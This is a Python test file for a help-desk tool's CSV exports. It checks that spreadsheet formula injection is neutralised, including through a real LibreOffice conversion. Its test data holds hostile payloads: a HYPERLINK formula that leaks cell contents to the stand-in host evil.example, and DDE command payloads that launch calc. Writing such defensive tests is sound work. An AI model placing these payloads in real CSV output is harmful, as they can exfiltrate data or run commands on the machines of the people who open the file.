"""CSV is safe to open in a spreadsheet.

The attack: a title, a requester's name, a tag, a comment or a work note
that starts with `=`, `+`, `-`, `@`, a tab or a CR (`=HYPERLINK(...)`,
`=cmd|' /C calc'!A0`, `@SUM(...)`) becomes a formula when a technician opens
`tix list --format csv` or an invoice in a spreadsheet. Every CSV tix writes
(list, sla, show, agenda, report month and period, invoice) must hold such
text with a leading `'`, while the numbers tix computes (a negative number
of minutes left on a breached clock, amounts) stay numbers.

The proof uses a real spreadsheet engine where the machine has one:
LibreOffice headless (Debian's `libreoffice-calc-nogui`) converts each CSV
to xlsx and the cells are read back from the xlsx XML: no cell may hold a
formula, the hostile cells are text, the computed numbers are numbers.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from tests.conftest import Desk, make_desk

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "name": "=cmd|' /C calc'!A0",
    "tag": "@SUM(1+1)*cmd|' /C calc'!A0",
    "comment": "+1+1",
    "note": "-2+3+cmd|' /C calc'!A0",
    "dept": "\t=1+1",
    "plan_agent": None,
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?")  # a decimal comma: the IT manager's CSV in nl, cs, ...


def test_csv_cell_rules() -> None:
    from decimal import Decimal

    from tix.core.safe import csv_cell

    for text in ("=1+1", "+1+1", "-cmd", "@SUM(1)", "\t=1", "-2+3", "=", "@", "+-1", "-1e5"):
        out = csv_cell(text)
        assert isinstance(out, str) and out.startswith("'"), text
    assert csv_cell("\r=1") == "\u240d=1"  # a lone CR is made visible: the cell starts with a plain character
    for value in (-30, Decimal("-12.50"), 3.5, 0):
        assert csv_cell(value) == value  # numbers tix writes stay numbers
    for text in ("-12.50", "-30", "+5", "12", "-", "abc", "a=b", ""):
        assert csv_cell(text) == text
    assert csv_cell(None) == ""
    assert csv_cell("\x1b[2Jx\ny") == "\u241b[2Jx\ny"  # control characters made visible, line feeds kept


def hostile_desk(tmp_path: Path) -> tuple[Desk, str]:
    desk = make_desk(tmp_path / "desk")
    tid = desk.new("--title", HOSTILE["title"], "--org", "contoso", "--impact", "8", "--urgency", "8",
                   "--requester", f"{HOSTILE['name']} <jan@contoso.com>", "--tag", HOSTILE["tag"],
                   "--dept", HOSTILE["dept"], now="2026-11-20T09:00:00+01:00")
    desk.ok("comment", tid, "-m", HOSTILE["comment"], now="2026-11-20T09:30:00+01:00")
    desk.ok("work", tid, "90m", "-m", HOSTILE["note"], now="2026-11-20T11:00:00+01:00")
    desk.ok("plan", tid, "2026-11-24T09:00", "--for", "1h")
    return desk, tid


def csv_outputs(desk: Desk, tid: str) -> dict[str, str]:
    runs = {
        "list": ["list", "--all", "--format", "csv"],
        "sla": ["sla", "--all", "--format", "csv"],
        "sla-ticket": ["sla", tid, "--format", "csv"],
        "show": ["show", tid, "--format", "csv"],
        "agenda": ["agenda", "--since", "2026-11-01", "--format", "csv"],
        "report-month": ["report", "month", "2026-11", "--org", "contoso", "--format", "csv"],
        "report-period": ["report", "period", "2026-11", "--by", "org", "--format", "csv"],
        "invoice": ["invoice", "2026-11", "--format", "csv"],
    }
    out = {}
    for name, args in runs.items():
        r = desk.run(*args)
        assert r.code == 0, (name, r.err)
        out[name] = r.out
    return out


def _delimiter(text: str) -> str:
    """`;` for a CSV in a language with a decimal comma (the IT manager's report), else `,`."""
    head = text.split("\n", 1)[0]
    return ";" if head.count(";") > head.count(",") else ","


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=_delimiter(text)))


def test_every_csv_neutralises_formulas(tmp_path: Path) -> None:
    desk, tid = hostile_desk(tmp_path)
    outs = csv_outputs(desk, tid)
    seen = set()
    for name, text in outs.items():
        for row in _cells(text):
            for c in row:
                if c.startswith(DANGEROUS) and not PLAIN_NUMBER.fullmatch(c) and c not in ("-", "+"):
                    pytest.fail(f"{name}: a cell could be read as a formula: {c!r}")
                for key, value in HOSTILE.items():
                    if value and c == "'" + value.replace("\t", "\t"):
                        seen.add(key)
    assert {"title", "name", "comment", "note", "dept"} <= seen, seen
    # the computed numbers are plain numbers: a breached clock's minutes left are negative
    sla_rows = _cells(outs["sla"])
    i = sla_rows[0].index("remaining_minutes")
    assert any(re.fullmatch(r"-[0-9]+", r[i]) for r in sla_rows[1:]), outs["sla"]
    inv = _cells(outs["invoice"])
    assert inv[1][inv[0].index("amount")] == "127.50"


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def _xlsx_cells(path: Path) -> list[dict[str, str | None]]:
    """Every cell of the first sheet: {ref, type, formula, value} (strings resolved)."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(path) as z:
        shared: list[str] = []
        if "xl/sharedStrings.xml" in z.namelist():
            root = ElementTree.fromstring(z.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t")) for si in root.findall("m:si", ns)]
        sheet = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
    out = []
    for c in sheet.iter(f"{{{ns['m']}}}c"):
        f = c.find("m:f", ns)
        v = c.find("m:v", ns)
        value = v.text if v is not None else None
        if c.get("t") == "s" and value is not None:
            value = shared[int(value)]
        out.append({"ref": c.get("r"), "type": c.get("t"), "formula": f.text if f is not None else None,
                    "value": value})
    return out


def convert(csvs: dict[str, str], tmp: Path) -> dict[str, list[dict[str, str | None]]]:
    soffice = _soffice()
    assert soffice
    dst = tmp / "xlsx"
    for sep in (",", ";"):
        src = tmp / f"csv{ord(sep)}"
        src.mkdir()
        for name, text in csvs.items():
            if _delimiter(text) == sep:
                (src / f"{name}.csv").write_text(text, encoding="utf-8", newline="")
        if not any(src.iterdir()):
            continue
        # its separator, double quote, UTF-8, from line 1; formulas evaluated as a user's import would
        subprocess.run([soffice, f"-env:UserInstallation=file://{tmp}/profile", "--headless", "--norestore",
                        f"--infilter=CSV:{ord(sep)},34,76,1", "--convert-to", "xlsx", "--outdir", str(dst),
                        *sorted(str(p) for p in src.iterdir())],
                       capture_output=True, timeout=240, check=False, env={**os.environ, "HOME": str(tmp)})
    return {name: _xlsx_cells(dst / f"{name}.xlsx") for name in csvs if (dst / f"{name}.xlsx").exists()}


@pytest.mark.skipif(_soffice() is None, reason="LibreOffice (libreoffice-calc-nogui) is not installed")
def test_a_spreadsheet_reads_no_formula(tmp_path: Path) -> None:
    desk, tid = hostile_desk(tmp_path)
    outs = csv_outputs(desk, tid)
    # the control: the engine does evaluate a formula in a CSV, so the test can see the attack
    outs["control"] = 'a,b,c\r\n=1+1,"=HYPERLINK(""http://x"",""y"")",-12.50\r\n'
    sheets = convert(outs, tmp_path)
    assert set(sheets) == set(outs), f"LibreOffice converted only {sorted(sheets)}"
    control = {c["ref"]: c for c in sheets.pop("control")}
    assert control["A2"]["formula"] == "1+1" and control["B2"]["formula"], control
    assert control["C2"]["type"] == "n" and control["C2"]["value"] == "-12.5"
    texts = set()
    for name, cells in sheets.items():
        formulas = [c for c in cells if c["formula"]]
        assert not formulas, f"{name}: the spreadsheet reads formulas: {formulas}"
        texts |= {c["value"] for c in cells if c["type"] in ("s", "str", "inlineStr")}
    for key in ("title", "name", "comment", "note", "dept"):
        assert "'" + HOSTILE[key] in texts, (key, sorted(t for t in texts if t and t[:1] == "'"))
    # tix's own numbers stay numbers: minutes left on the breached clock (negative), amounts
    sla = sheets["sla"]
    header = {c["value"]: c["ref"][0] for c in sla if c["ref"].endswith("1") and len(c["ref"]) == 2}
    col = header["remaining_minutes"]
    left = [c for c in sla if c["ref"].startswith(col) and c["ref"] != f"{col}1"]
    assert left and all(c["type"] == "n" for c in left) and any(float(c["value"]) < 0 for c in left), left
    inv = sheets["invoice"]
    header = {c["value"]: re.match(r"[A-Z]+", c["ref"]).group() for c in inv if c["ref"][-1] == "1"
              and c["ref"][-2].isalpha()}
    amount = next(c for c in inv if c["ref"] == f"{header['amount']}2")
    assert amount["type"] == "n" and float(amount["value"]) == 127.5
